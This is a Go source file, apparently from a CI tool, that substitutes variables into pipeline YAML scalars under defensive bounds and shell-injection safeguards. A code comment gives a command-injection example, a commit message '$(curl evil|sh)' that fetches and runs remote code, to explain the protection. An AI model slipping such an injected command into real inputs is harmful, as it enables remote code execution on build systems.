package pipeline

import (
	"errors"
	"fmt"
	"regexp"
	"strings"

	"github.com/drone/envsubst"
	"go.yaml.in/yaml/v4"
)

// Variables, `${CI_COMMIT_SHA:0:8}` and the like, are replaced in the scalars
// of a file after its YAML was read, never in its text: a commit message or a
// branch's name comes from whoever pushes, and must not become keys, steps or
// a syntax error.
//
// The same holds one level down, for the shell. In what a shell is given to
// run, a value is put in only if no shell could read anything but a word in
// it. Any other expression is left as it stands, for the shell to expand: the
// same variables are in its environment, and what a shell expands it does not
// run. So a merge commit called "$(curl evil|sh)" is text wherever it goes.
//
// In slipway's own files only our variables are replaced (CI_*, those of the
// matrix, those given by hand); `${HOME}` is the shell's. What envsubst cannot
// read, `${{ x }}` or `${V-d}`, stays as it is, with a warning. In the files of
// other systems everything is as there: a variable that is not known is empty,
// and what cannot be read is an error.
//
// `$${NAME}` stands for `${NAME}`.

// use says what a scalar is for.
type use int

const (
	plain use = iota // a value that is taken as it is
	shell            // run by a shell
)

const (
	// maxExpression is the longest `${…}` that is looked at.
	maxExpression = 512
	// maxSubstitution bounds the work of all substitutions of one file, in
	// bytes looked at or written.
	maxSubstitution = 64 << 20
	// maxExpanded bounds the bytes that variables may add to one file.
	maxExpanded = 8 << 20
)

// substituter replaces variables in the scalars of one file.
type substituter struct {
	vars    map[string]string // those that have a value
	names   []string          // further ones that are known
	dialect dialect
	spent   *expense // shared within the document
}

// expense is what substitutions, and the filters over their variables, have cost
// so far.
type expense struct{ work, grown, expressions, matches int }

func newSubstituter(vars map[string]string, d dialect) *substituter {
	return &substituter{vars: vars, dialect: d, spent: &expense{}}
}

// another returns one with other variables and the same bounds.
func (s *substituter) another(vars map[string]string, names []string) *substituter {
	return &substituter{vars: vars, names: names, dialect: s.dialect, spent: s.spent}
}

// isVariable reports whether a variable is one of ours, with a value or without.
func (s *substituter) isVariable(name string) bool {
	if _, ok := s.vars[name]; ok {
		return true
	}
	_, ok := variableSet[name]
	return ok || contains(s.names, name)
}

// substitute returns the value of a scalar with its variables replaced, and
// reports what cannot be.
func (d *decoder) substitute(n *yaml.Node, u use) string {
	if !strings.Contains(n.Value, "$") && (d.doc.dialect == slipway || !strings.Contains(n.Value, `\`)) {
		return n.Value
	}
	s, faults := d.vars.expand(n.Value, u, n.Style&yaml.DoubleQuotedStyle != 0)
	for _, f := range faults {
		d.reportFault(n, f)
	}
	return s
}

// A fault is an expression that cannot be replaced.
type fault struct {
	expr string
	err  error
}

// reportFault reports an expression that could not be replaced.
func (d *decoder) reportFault(n *yaml.Node, f fault) {
	switch {
	case errors.Is(f.err, errTooMuch):
		d.report(n, fmt.Sprintf("`%s` cannot be replaced: %v", clip(f.expr), f.err), "")
	case d.doc.dialect == slipway:
		d.warn(n, fmt.Sprintf("`%s` is left as it is: %v", clip(f.expr), f.err), fmt.Sprintf("write `$%s` if that is what you mean", clip(f.expr)))
	default:
		d.report(n, fmt.Sprintf("`%s` cannot be replaced: %v", clip(f.expr), f.err), fmt.Sprintf("write `$%s` for what is the shell's", clip(f.expr)))
	}
}

// expand replaces the variables in s. quoted says that s stood in double
// quotes, whose backslashes were YAML's.
func (s *substituter) expand(in string, u use, quoted bool) (out string, faults []fault) {
	var b strings.Builder
	for {
		i := strings.Index(in, "${")
		if i < 0 {
			break
		}
		if trailingDollars(in[:i])%2 == 1 {
			// `$${`: one dollar is the escape.
			b.WriteString(s.unescape(in[:i-1], quoted))
			b.WriteString("${")
			in = in[i+2:]
			continue
		}
		b.WriteString(s.unescape(in[:i], quoted))
		length := expressionLength(in[i:])
		if length == 0 {
			b.WriteString("${")
			in = in[i+2:]
			continue
		}
		v, err := s.expression(in[i:i+length], u)
		if err != nil {
			faults = append(faults, fault{in[i : i+length], err})
		}
		b.WriteString(v)
		in = in[i+length:]
	}
	b.WriteString(s.unescape(in, quoted))
	return b.String(), faults
}

func trailingDollars(s string) int { return len(s) - len(strings.TrimRight(s, "$")) }

// unescape resolves the escapes of text between expressions. Ours has none but
// `$${`; Woodpecker and Drone turn `$$` into `$` everywhere, and `\\` and `\/` into
// their second character, and their users write accordingly.
func (s *substituter) unescape(text string, quoted bool) string {
	if s.dialect == slipway {
		return text
	}
	text = strings.ReplaceAll(text, "$$", "$")
	if !quoted {
		text = strings.NewReplacer(`\\`, `\`, `\/`, `/`).Replace(text)
	}
	return text
}

// expressionLength returns the length of the `${…}` that s begins with, with
// others nested in it; 0 if it is not closed or too long.
func expressionLength(s string) int {
	if strings.HasPrefix(s, "${{") {
		// Another system's; it is told as a whole.
		if end := strings.Index(s[:min(len(s), maxExpression)], "}}"); end > 0 {
			return end + len("}}")
		}
	}
	depth := 0
	for i := 0; i < len(s) && i < maxExpression; i++ {
		switch {
		case s[i] == '$' && i+1 < len(s) && s[i+1] == '{':
			depth++
			i++
		case s[i] == '}':
			if depth--; depth == 0 {
				return i + 1
			}
		}
	}
	return 0
}

var (
	// variableNames finds the variables that an expression mentions.
	variableNames = regexp.MustCompile(`\$\{#?([A-Za-z_][A-Za-z0-9_]*)`)
	// unsupported are operators of the shell that envsubst reads and gets
	// wrong: it takes ${X:+y} for ${X:-y}.
	unsupported = regexp.MustCompile(`\$\{[A-Za-z0-9_]+:[+?]`)
	// harmless is a value that every shell takes for a plain piece of a word,
	// quoted or not. It lacks `=`, which could make an assignment.
	harmless = regexp.MustCompile(`^[A-Za-z0-9_./:@%+,-]*$`)
)

// expression returns what takes the place of one `${…}`.
func (s *substituter) expression(expr string, u use) (string, error) {
	if err := s.readable(expr); err != nil {
		return expr, err
	}
	ours := false // a value from outside may come into it
	names := variableNames.FindAllStringSubmatch(expr, -1)
	if len(names) == 0 && s.dialect == slipway {
		return expr, nil
	}
	for _, m := range names {
		if s.isVariable(m[1]) {
			ours = true
		} else if s.dialect == slipway {
			return expr, nil
		}
	}
	if s.dialect == slipway && unsupported.MatchString(expr) {
		if u == shell {
			return expr, nil // the shell does it right
		}
		return expr, errOperator
	}
	v, err := s.evaluate(expr, names)
	switch {
	case u == shell && ours && (err != nil || !harmless.MatchString(v)):
		return expr, nil
	case err != nil:
		return expr, err
	}
	return v, nil
}

var (
	errOperator = errors.New("its operator is not supported")
	errTooMuch  = errors.New("it is too much work; do it in a command")
	errSyntax   = errors.New("it is not well-formed")
)

// readable reports what keeps an expression from being replaced, whatever the
// values are.
func (s *substituter) readable(expr string) error {
	// It is read for each scalar, so that this is work as replacing it is.
	if len(expr) > maxSubstitution-s.spent.work {
		return errTooMuch
	}
	s.spent.work += len(expr)
	if _, err := envsubst.Parse(expr); err != nil {
		return errSyntax
	}
	return nil
}

// evaluate returns the value of an expression.
func (s *substituter) evaluate(expr string, names [][]string) (v string, err error) {
	work := s.cost(expr, names)
	if work > maxSubstitution-s.spent.work {
		return "", errTooMuch
	}
	s.spent.work += work
	// envsubst slices out of range for ${X:3:-2}.
	defer func() {
		if recover() != nil {
			v, err = "", errSyntax
		}
	}()
	v, err = envsubst.Eval(expr, func(name string) string { return s.vars[name] })
	if err != nil {
		return "", errSyntax
	}
	if len(v) > maxExpanded-s.spent.grown {
		return "", errTooMuch
	}
	s.spent.grown += len(v)
	return v, nil
}

// cost bounds the work of an expression from above. Values come from outside
// and may be long, so that it is exact where that is common.
func (s *substituter) cost(expr string, names [][]string) int {
	longest, sum := 0, 0
	for _, m := range names {
		longest = max(longest, len(s.vars[m[1]]))
		sum += len(s.vars[m[1]])
	}
	rest := len(expr) // what a pattern or a replacement has at most
	if len(names) > 1 {
		rest += sum
	}
	switch body := expr[len("${"):]; {
	case strings.ContainsAny(body, "#%") && strings.Contains(body, "*"):
		// Each prefix of the value is matched, and each star tries each place.
		return longest * longest * rest
	case strings.ContainsAny(body, "#%/"):
		return longest * rest
	}
	return sum + rest
}
